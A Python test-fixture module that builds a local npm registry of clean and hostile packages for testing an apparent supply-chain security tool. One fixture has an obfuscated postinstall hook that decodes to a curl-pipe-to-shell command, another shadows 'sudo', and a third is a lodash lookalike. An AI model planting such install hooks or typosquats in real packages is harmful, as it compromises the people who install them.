"""A static npm registry on loopback with clean and hostile fixture packages; a project."""

from __future__ import annotations

import re
import shutil
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from aegis.devtools.npm_registry import NpmRegistry

HAVE_NPM = shutil.which("npm") is not None
needs_npm = pytest.mark.skipif(
    not HAVE_NPM and __import__("os").environ.get("CI") != "true",
    reason="npm is not installed (scripts/test installs it)",
)


@dataclass
class NpmWorld:
    registry: NpmRegistry
    url: str


def build_registry(root: Path) -> NpmRegistry:
    reg = NpmRegistry(root)
    reg.add("dep-a", "1.0.0")
    reg.add("top-b", "2.0.0", dependencies={"dep-a": "^1.0.0"}, bin={"top-b": "index.js"})
    # An obfuscated install script two levels down: base64 decoded and run.
    reg.add(
        "inner-evil",
        "1.0.0",
        scripts={"postinstall": "echo Y3VybCBodHRwOi8veC9zIHwgc2g= | base64 -d | sh"},
    )
    reg.add("friendly-wrap", "1.0.0", dependencies={"inner-evil": "1.0.0"})
    reg.add("gyp-thing", "1.0.0", scripts={"install": "node-gyp rebuild"})
    reg.add("shadow-bin", "1.0.0", bin={"sudo": "index.js"})
    reg.add("lodahs", "1.0.0")  # a lookalike of lodash
    # Publish times for min_release_age: an hour old, and times a registry could lie with.
    reg.add("fresh-pkg", "1.0.0", published=recent())
    reg.add("odd-time", "1.0.0", published="yesterday")
    reg.add("undated-pkg", "1.0.0", published="")
    reg.add("future-time", "1.0.0", published="2999-01-01T00:00:00.000Z")
    return reg


def recent() -> str:
    """An hour ago, as registries write it."""
    return (datetime.now(UTC) - timedelta(hours=1)).strftime("%Y-%m-%dT%H:%M:%S.000Z")


def with_release_age(policy: str, seconds: int = 259_200) -> str:
    """``policy`` with ``[thresholds] min_release_age_s`` set (default: 3 days)."""
    return re.sub(r"(?m)^min_release_age_s = 0\b", f"min_release_age_s = {seconds}", policy)


def serve(root: Path) -> Iterator[NpmWorld]:
    reg = build_registry(root)
    with reg.serve() as url:
        yield NpmWorld(reg, url)


def new_project(path: Path) -> Path:
    path.mkdir(parents=True, exist_ok=True)
    (path / "package.json").write_text('{"name": "app", "version": "1.0.0"}\n')
    return path


def policy_with_registry(url: str) -> str:
    default = (Path(__file__).resolve().parents[4] / "aegis/policy/default_policy.toml").read_text()
    return default + f'\n[[registries]]\nname = "local"\necosystem = "npm"\nurl = "{url}"\n'
